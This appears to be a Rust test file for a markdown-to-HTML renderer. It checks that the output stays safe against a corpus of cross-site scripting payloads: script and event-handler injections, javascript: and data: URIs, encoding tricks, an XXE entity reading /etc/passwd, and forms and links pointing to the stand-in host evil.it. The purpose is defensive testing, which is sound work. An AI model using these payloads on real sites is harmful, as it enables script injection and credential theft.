//! What attackers type.

use super::{House, assert_safe};
use crate::text::{Mention, Resolve, quote, render};

const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.it/x.js></sCrIpT>",
    "a<script>alert(1)</script>b",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"//>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>@import '//evil.it';</style>",
    "<p style=\"background:url(//evil.it)\">x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.it><base href=//evil.it>",
    "<form action=//evil.it><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.it><link rel=stylesheet href=//evil.it>",
    "<details open ontoggle=alert(1)>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    "</p></div></body><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><textarea></textarea><title>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript&colon;alert&lpar;1&rpar;)",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://a.it/1) [x](filesystem:https://a.it/1) [x](file:///etc/passwd)",
    "[x](//evil.it) [x](/\\evil.it) [x](\\\\evil.it) [x](/%09/evil.it) [x](</\t/evil.it>)",
    "[x](https:evil.it) [x](https:/evil.it) [x](https:\\\\evil.it)",
    "[x](https://a.it\"onmouseover=\"alert(1))",
    "[x](https://a.it'onmouseover='alert(1))",
    "[x](<https://a.it\"><script>alert(1)</script>>)",
    "[x](https://a.it \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://a.it 't\" onmouseover=\"alert(1)')",
    "[x](https://a.it (t&quot; onmouseover=&quot;alert(1)))",
    "[<script>alert(1)</script>](https://a.it)",
    "[a<b onclick=x>](https://a.it \"<script>\")",
    "[a](javascript:alert(1) \"title\")\n\n[b]: javascript:alert(1)\n\n[b] [b][] [c][b]",
    "![x](javascript:alert(1))",
    "![\" onerror=\"alert(1)](https://a.it/x.png)",
    "![x](https://a.it/x.png\"onerror=\"alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![\" onerror=\"alert(1)](/allegati/7)",
    "![x<script>alert(1)</script><!--reactions-->](/allegati/7 \"t\\\" onload=\\\"alert(1)\")",
    "![x](/allegati/7\"onerror=\"alert(1)) ![x](</allegati/7 onerror=x>) ![x](/allegati/../persone/7)",
    "<img src=\"/allegati/7/figura/480\" onload=alert(1)> <img srcset=\"/allegati/7/figura/480 1w, //evil.it 2w\">",
    "<javascript:alert(1)> <javascript://a.it/%0aalert(1)> <data:text/html,x>",
    "<https://a.it/\"onmouseover=\"alert(1)>",
    "https://a.it/\"onmouseover=\"alert(1) https://a.it/'x' https://a.it/<script>",
    "https://a.it/`x`<b>y http://javascript:alert(1)//",
    "javascript:alert(1)@a.it xmpp:a@b.it/javascript:x mailto:a@b.it?subject=<script>",
    "a@b.it\"onclick=\"x",
    "`<script>alert(1)</script>` ``</code><script>``",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```js\" onmouseover=\"alert(1)\nx\n```",
    "~~~<script>\nx\n~~~",
    "    </code></pre><img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>\n> <script>\n\n- <script>\n- [ ] <script>\n\n1. <svg onload=x>",
    "| \" onmouseover=\"alert(1) | <script> |\n|---|---|\n| <img src=x onerror=y> | [x](javascript:y) |",
    "- [x] \"><script>alert(1)</script>",
    "@ugo @<script> @nives.altopiano<script> #1<script> #1\"onclick=\"x",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a\u{0}b><\u{0}script>",
    "\u{feff}<script>\u{2028}alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<https://a.it/\u{202e}gnp.exe>",
    "<b\n>x<b\n\n><script\n>alert(1)</script\n>",
    "*<script>*alert(1)**</script>**",
    "[x](https://a.it){onclick=alert(1)} {:onclick=x} :::x\n<b>\n:::",
    "<a href=x><a href=y>[z](https://a.it)</a>",
];

#[test]
fn nothing_runs() {
    for source in CORPUS {
        let html = render(source, &House).html;
        assert_safe(&html);
        // Typed HTML and refused addresses are shown, not dropped: the dangerous word stays, as text.
        for word in ["script", "onerror", "onload"] {
            if source.starts_with('<') && source.contains(word) {
                assert!(html.contains(word), "{word} of {source} is missing in {html}");
            }
        }
        for framed in
            [format!("> {source}"), format!("- a\n- {source}"), format!("**{source}**"), quote(source, source, source)]
        {
            assert_safe(&render(&framed, &House).html);
        }
    }
}

#[test]
fn refused_addresses_are_shown_beside_their_label() {
    for (source, expected) in [
        ("[clic](javascript:alert(1))", "<p>clic (javascript:alert(1))</p>\n"),
        ("[clic](&#106;avascript:alert(1))", "<p>clic (javascript:alert(1))</p>\n"),
        ("[clic](//evil.it)", "<p>clic (//evil.it)</p>\n"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
    ] {
        assert_eq!(render(source, &House).html, expected);
    }
}

#[test]
fn not_even_the_house_s_own_data_can_break_out() {
    struct Rogue;
    impl Resolve for Rogue {
        fn mention(&self, handle: &str) -> Option<Mention> {
            let href = if handle == "a" { "javascript:alert(1)" } else { "/x\"><script>alert(1)</script>" };
            Some(Mention { person: 1, name: "</a><script>alert(1)</script>".into(), href: href.into() })
        }

        fn thread(&self, _: i64) -> bool {
            true
        }
    }
    let html = render("@a @b #1", &Rogue).html;
    assert!(!html.contains("<script") && !html.contains("\"javascript"), "{html}");
    assert!(html.contains("<a class=\"mention\">@&lt;/a&gt;&lt;script&gt;"), "{html}");
}
